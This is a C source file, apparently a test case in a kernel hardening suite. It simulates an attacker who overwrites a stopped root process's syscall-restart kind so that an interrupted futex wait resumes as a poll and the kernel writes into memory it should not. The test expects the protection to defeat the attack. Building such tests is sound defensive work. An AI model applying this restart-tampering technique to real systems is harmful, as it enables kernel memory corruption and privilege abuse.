// SPDX-License-Identifier: GPL-2.0-only
#include <linux/futex.h>
#include <linux/poll.h>

#include "attack.h"

ATTACK("shadow_stack", "interrupted_call", "LOST",
       "A program of root waits for a futex with a time limit and is stopped meanwhile. In its "
       "task stands which call goes on afterwards; the attacker makes that a poll.",
       "Which call it was is kept beside the program's registers, which only its own page tables "
       "show.",
       "The futex word and what follows it are taken for a list of descriptors, and the kernel "
       "writes answers into it.");

#define RESTART_POLL 3
#define ENTRIES FUTEX_PRIVATE_FLAG /* what the operation says as a count */
#define NOT_OPEN 77

static volatile struct pollfd words[ENTRIES];

static bool control(void)
{
	return is_ordinary() && peek32(victim_task(own_task()) + member("task.id")) != 0;
}

static bool fire(void)
{
	const uint64_t kind = victim_task(own_task()) + member("task.restart_kind");

	for (int i = 0; i < 200 && peek32(kind) == 0; i++)
		sleep_milliseconds(10);
	poke32(kind, RESTART_POLL);
	sleep_milliseconds(1500);
	return false;
}

static void stop_and_continue(long program)
{
	sleep_milliseconds(300);
	call2(__NR_kill, program, SIGSTOP);
	sleep_milliseconds(700);
	call2(__NR_kill, program, SIGCONT);
	leave(0);
}

static void victim(void)
{
	const long program = call0(__NR_getpid), limit[2] = { 60, 0 };

	for (int i = 0; i < ENTRIES; i++)
		words[i].fd = i == 0 ? -1 : NOT_OPEN;
	if (fork_program() == 0)
		stop_and_continue(program);
	call4(__NR_futex, (long)&words[0].fd, FUTEX_WAIT | FUTEX_PRIVATE_FLAG, -1, (long)limit);
	if (words[1].revents != 0)
		say_result("WON");
	victim_waits();
}
